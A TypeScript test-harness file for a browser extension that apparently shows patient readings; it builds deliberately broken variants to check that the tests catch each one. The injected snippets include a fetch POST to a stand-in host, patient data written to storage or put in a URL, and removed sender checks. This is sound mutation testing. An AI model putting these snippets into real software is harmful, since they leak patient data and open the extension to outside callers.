/** Builds that break one promise each, on purpose: what a run of the good build finds none of must be found in them. */
import { spawnSync } from "node:child_process";
import { cpSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { startChromium } from "../harness/chromium";
import type { Session, StartOptions } from "../harness/types";

/** The source that is changed while it is built, the words replaced, and what stands there instead. */
export type Break = [file: string, words: string, instead: string];

const HEARD = "const { tabId, frameId, address } = frame;\n";

/** By name. The sources themselves stay as they are: the change lives in the build alone. */
export const VARIANTS: Record<string, Break[]> = {
  "keeps the last patient": [
    [
      "src/sidebar/follow.ts",
      "const stopWatching = port.watch((view) => {",
      'const stopWatching = port.watch((view) => { if (!view || view.state === "reading") return;',
    ],
  ],
  "sends a reading away": [
    [
      "src/content/port.ts",
      "async send(message) {",
      'async send(message) { void fetch("http://elsewhere.example/", { method: "POST", mode: "no-cors", body: "x" }).catch(() => {});',
    ],
  ],
  "writes a reading to disk": [
    [
      "src/background/from-page.ts",
      HEARD,
      `${HEARD}void chrome.storage.local.set({ leak: JSON.stringify(message) });\n`,
    ],
  ],
  "names the patient in an address": [
    [
      "src/background/from-page.ts",
      HEARD,
      `${HEARD}if (message.type === "page/reading" && message.reading.patient?.label) void chrome.tabs.create({ active: false, url: chrome.runtime.getURL("src/prove/prove.html") + "#" + encodeURIComponent(message.reading.patient.label) });\n`,
    ],
  ],
  "believes what nobody can see": [
    [
      "src/content/page/visible.ts",
      "sees(node: Node, start: number, end: number): boolean {",
      "sees(): boolean { return true;",
    ],
    [
      "src/content/page/visible.ts",
      "renders(element: Element | null): boolean {",
      "renders(element: Element | null): boolean { if (element) return true;",
    ],
  ],
  "answers strangers": [
    ["src/platform/messages.ts", "if (sender.id !== browser.runtime.id) return undefined;", ""],
    [
      "src/platform/messages.ts",
      'const own = sender.url?.startsWith(browser.runtime.getURL("")) ?? false;',
      'const own = sender.url?.startsWith("chrome-extension:") ?? false;',
    ],
    [
      "src/background/worker.ts",
      "onMessage((message, sender) => {",
      "chrome.runtime.onMessageExternal.addListener((message, _sender, reply) => { const question = fromPanel.safeParse(message); if (question.success) { void answer(question.data, Date.now()).then(reply); return true; } return undefined; });\nonMessage((message, sender) => {",
    ],
  ],
  "keeps every mutation": [
    [
      "src/content/watch/watch.ts",
      "private heard(records: MutationRecord[]): void {",
      "private heard(records: MutationRecord[]): void { ((globalThis as { kept?: unknown[] }).kept ??= []).push(records);",
    ],
  ],
};

/** Builds a variant from a copy of the sources, and starts browsers with it. `remove` takes the build away again. */
export function buildVariant(
  name: string,
  sites: string,
): { start(options?: StartOptions): Promise<Session>; remove(): void } {
  const folder = mkdtempSync(join(tmpdir(), "nextline-variant-"));
  for (const part of ["src", "manifest.json", "package.json", "tsconfig.json", "vite.config.ts"])
    cpSync(part, join(folder, part), { recursive: true });
  symlinkSync(resolve("node_modules"), join(folder, "node_modules"), "junction");
  for (const [file, words, instead] of VARIANTS[name] ?? []) {
    const path = join(folder, file);
    const source = readFileSync(path, "utf8");
    if (!source.includes(words)) throw new Error(`"${name}": ${file} no longer says ${words}`);
    writeFileSync(path, source.replace(words, instead));
  }
  const { status, stderr } = spawnSync(
    process.execPath,
    ["node_modules/vite/bin/vite.js", "build", "--logLevel", "warn"],
    {
      cwd: folder,
      encoding: "utf8",
      env: { ...process.env, BROWSER: "chrome", SITES: sites, OUT: join(folder, "dist") },
    },
  );
  if (status !== 0) throw new Error(`The build that ${name} failed:\n${stderr}`);
  return {
    start: (options) => startChromium(join(folder, "dist", "chrome"), options),
    remove: () => rmSync(folder, { recursive: true, force: true }),
  };
}
